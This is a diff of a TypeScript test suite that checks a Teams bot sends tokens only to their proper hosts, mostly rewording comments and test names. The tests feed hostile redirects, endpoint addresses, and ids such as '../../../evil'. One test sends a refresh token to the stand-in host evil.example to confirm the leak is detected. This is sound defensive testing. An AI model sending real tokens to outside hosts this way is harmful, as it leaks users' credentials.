@@ -9,12 +9,12 @@ import { crowd } from './crowd.ts'
 import { BESIDE, ELSEWHERE, HOSTS } from './elsewhere.ts'
 import { recorder, type Recorder } from './recorder.ts'
 
-/** With TEST_FULL every address is tried at every place. */
+/** `TEST_FULL=1`: every address at every place. */
 const FULL = process.env['TEST_FULL'] !== undefined
 
 const everybody = crowd(20)
 const strangers = everybody.filter(({ name }) => name.startsWith('Somebody'))
-/** Those who are connected later on. */
+/** The people who are connected by the second group of tests. */
 const askers = [megan, ...strangers.slice(0, 4)]
 
 let record: Recorder
@@ -46,20 +46,20 @@ const here = (address: string): string => {
   return address.replaceAll('{host}', host).replaceAll('{port}', port)
 }
 
-/** Connections to anybody but the emulator and the bot. */
+/** The targets of connections to other servers than the emulator and the bot. */
 function abroad(): string[] {
   const { port, host } = new URL(world.publicUrl)
   const known = [new URL(world.emulator.origin).host, host, `127.0.0.1:${port}`]
   return record.connections.map(({ to }) => to).filter((to) => !known.includes(to))
 }
 
-/** Where a token or secret that the emulator has given out may be seen: Microsoft's own place for it. */
+/** The requests that contain a token or secret of the emulator, but were not sent to Microsoft's endpoint for it. */
 function astray(): string[] {
   const answers = record.answered.join('')
   const issued = (name: string) =>
     [...answers.matchAll(new RegExp(`"${name}":"([^"]+)"`, 'g'))].map(([, token = '']) => token)
   const { host } = new URL(world.emulator.origin)
-  // A person's token is opaque; the bot's own is a JWT.
+  // A person's token is opaque; the bot's own token is a JWT.
   const places: [string[], RegExp][] = [
     [issued('access_token').filter((token) => !token.includes('.')), /^\/v1\.0\//],
     [issued('access_token').filter((token) => token.includes('.')), /^\/teams\/v3\//],
@@ -75,14 +75,14 @@ function astray(): string[] {
 let turns = 0
 const next = (among: readonly Person[]): Person => among[(turns += 1) % among.length] ?? megan
 
-/** What the bot last said to one of those who are connected; nothing is waited for. */
+/** Asks as a connected person. @returns the bot's last message, without waiting for more */
 async function answer(text: string, to = next(askers)): Promise<string> {
   const of = world.emulator.channel.personal(to)
   await of.send(text)
   return readable(of.messages.findLast(({ from }) => from === 'bot'))
 }
 
-/** A sign-in's page at its end; what the chat is told comes later. */
+/** Signs in. @returns the last page, without waiting for the message in the chat */
 async function signIn(person = next(strangers)): Promise<string> {
   const of = world.emulator.channel.personal(person)
   await of.send('connect')
@@ -90,10 +90,10 @@ async function signIn(person = next(strangers)): Promise<string> {
   return (await signInWith(card, person)).text
 }
 
-/** Every fourth of them, unless all are wanted: every address is tried at one place in any case. */
+/** Every fourth address in the short run. Each address is tried at one place in any case. */
 const some = (addresses: readonly string[]) => addresses.filter((_, n) => FULL || n % 4 === 0)
 
-/** What came of each address, told apart from the others. */
+/** Lets the bot meet each address, and checks what it says. */
 async function each(addresses: readonly string[], visit: (address: string) => Promise<string>, says: string) {
   for (const address of addresses) {
     const said = await visit(here(address))
@@ -101,8 +101,8 @@ async function each(addresses: readonly string[], visit: (address: string) => Pr
   }
 }
 
-describe('S52 tokens only to their host: before anybody is connected', () => {
-  test('S52 discovery calls Graph’s host something else', async () => {
+describe('before anybody is connected', () => {
+  test('S52 tokens only to their host: discovery names another Graph host', async () => {
     const visit = async (host: string) => {
       world.emulator.entra.setMsgraphHost(host)
       return signIn()
@@ -111,7 +111,7 @@ describe('S52 tokens only to their host: before anybody is connected', () => {
     world.emulator.entra.setMsgraphHost(new URL(world.emulator.origin).host)
   })
 
-  test('S52 discovery names an endpoint elsewhere', async () => {
+  test('S52 tokens only to their host: discovery names an endpoint at another host', async () => {
     const visit = async (address: string) => {
       const name = ['token_endpoint', 'jwks_uri', 'authorization_endpoint'][visits++ % 3] ?? ''
       world.emulator.faults.add({ match: 'discovery', times: 1, merge: { [name]: address } })
@@ -121,7 +121,7 @@ describe('S52 tokens only to their host: before anybody is connected', () => {
     await each(ELSEWHERE, visit, en.signInFailed.untrusted)
   })
 
-  test('S52 discovery is answered with a redirect elsewhere', async () => {
+  test('S52 tokens only to their host: discovery redirects to another host', async () => {
     for (const fault of redirects('discovery')) {
       world.emulator.faults.add(fault)
       expect(await signIn()).toContain(en.signInFailed.unavailable)
@@ -129,12 +129,12 @@ describe('S52 tokens only to their host: before anybody is connected', () => {
   })
 })
 
-describe('S52 tokens only to their host: once connected', () => {
+describe('once people are connected', () => {
   beforeAll(async () => {
     for (const person of askers) expect(await signIn(person)).toContain(en.page.connected.title)
     for (const person of askers) await world.emulator.channel.personal(person).settled()
     for (const { oid } of askers) world.emulator.graph.mailbox(oid).add({ displayName: 'Somebody Else' })
-    // What all the apologies below are held against.
+    // Without a fault the answer is right. All tests below expect an apology instead.
     expect(await answer('find contact Alice', megan)).toContain('Alice Admin')
   })
 
@@ -142,7 +142,7 @@ describe('S52 tokens only to their host: once connected', () => {
     ['folders', /^GET \/v1.0\/me\/contactFolders\?/, true],
     ['changes', /^GET \/v1.0\/me\/contactFolders\/[^/]+\/contacts\/delta\?/, true],
     ['contacts', /^GET \/v1.0\/me\/contactFolders\/[^/]+\/contacts\?/, false],
-  ])('S52 a page of %s leads on elsewhere', async (list, match, available) => {
+  ])('S52 tokens only to their host: the next page of %s is at another host', async (list, match, available) => {
     world.emulator.graph.setDelta({ available })
     const visit = async (link: string) => {
       world.emulator.faults.add({ match, times: 1, merge: { '@odata.nextLink': link, '@odata.deltaLink': link } })
@@ -153,14 +153,14 @@ describe('S52 tokens only to their host: once connected', () => {
     world.emulator.graph.setDelta({ available: true })
   })
 
-  test('S52 Graph redirects elsewhere', async () => {
+  test('S52 tokens only to their host: Graph redirects to another host', async () => {
     for (const fault of redirects('graph')) {
       world.emulator.faults.add(fault)
       expect(await answer('find contact Alice')).toContain(en.trouble.contacts_down)
     }
   })
 
-  test('S52 the token endpoint redirects elsewhere, at a renewal', async () => {
+  test('S52 tokens only to their host: the token endpoint redirects a refresh to another host', async () => {
     for (const fault of redirects('token')) {
       world.emulator.entra.expireAccessTokens()
       world.emulator.faults.add(fault)
@@ -168,28 +168,28 @@ describe('S52 tokens only to their host: once connected', () => {
     }
   })
 
-  test('S52 the token endpoint redirects elsewhere, for a code and for the bot itself', async () => {
+  test('S52 tokens only to their host: the token endpoint redirects a code, and the bot’s own request, to another host', async () => {
     const code = redirects('token')[3]
     if (!code) throw new Error('No fault')
     world.emulator.faults.add(code)
     expect(await signIn(alex)).toContain(en.signInFailed.unavailable)
     await world.emulator.channel.personal(alex).settled()
     for (const fault of redirects('token')) {
-      // Where its token is refused, the bot fetches another.
+      // The bot gets a new token of its own when the channel refuses the old one.
       world.emulator.faults.add({ match: 'channel', times: 1, status: 401 })
       world.emulator.faults.add(fault)
       expect((await chat.send('help')).status).toBe(502)
     }
   })
 
-  test('S52 the channel redirects elsewhere', async () => {
+  test('S52 tokens only to their host: the channel redirects to another host', async () => {
     for (const fault of redirects('channel')) {
       world.emulator.faults.add(fault)
       expect((await chat.send('help')).status).toBe(502)
     }
   })
 
-  test('S52 an activity asks for its answer elsewhere, with a token that says so too', async () => {
+  test('S52 tokens only to their host: an activity and its token name another host as serviceUrl', async () => {
     for (const address of [...ELSEWHERE.filter((address) => !isLoopback(address)), '', 'evil.example', 'http:evil']) {
       const serviceurl = here(address)
       const authorization = `Bearer ${await world.emulator.channel.sign({ serviceurl })}`
@@ -199,7 +199,7 @@ describe('S52 tokens only to their host: once connected', () => {
     }
   })
 
-  test('S52 a conversation and a message with an address for an id', async () => {
+  test('S52 tokens only to their host: a conversation and a message have an address as their id', async () => {
     for (const id of [
       '//evil.example',
       '../../../evil',
@@ -216,18 +216,18 @@ describe('S52 tokens only to their host: once connected', () => {
   })
 })
 
-/** The addresses in a Location, by each of the statuses that lead there. */
+/** Redirects to these addresses, with each redirect status. */
 function redirects(match: 'graph' | 'token' | 'discovery' | 'channel'): Fault[] {
   const locations = some([...ELSEWHERE, ...BESIDE].filter((address) => /^[\x21-\x7e]+$/.test(address))).map(here)
   const statuses = [301, 302, 303, 307, 308]
   return locations.map((location, n) => ({ match, times: 1, status: statuses[n % 5] ?? 307, headers: { location } }))
 }
 
-/** Where the emulator is the channel, any port of this machine may be answered by http. */
+/** With the emulator as channel, the bot may answer to any port of this machine over http. */
 const isLoopback = (address: string) =>
   /^http:\/\/(?:127\.0\.0\.1|localhost|\[::1\])[:/]/i.test(address) && URL.canParse(here(address))
 
-test('S52 the recorder sees what goes astray', async () => {
+test('S52 tokens only to their host: the recorder notices a token at another host', async () => {
   const [, token = ''] = /"refresh_token":"([^"]+)"/.exec(record.answered.join('')) ?? []
   const headers = { authorization: `Bearer ${token}` }
   await fetch('http://evil.example/a', { headers })
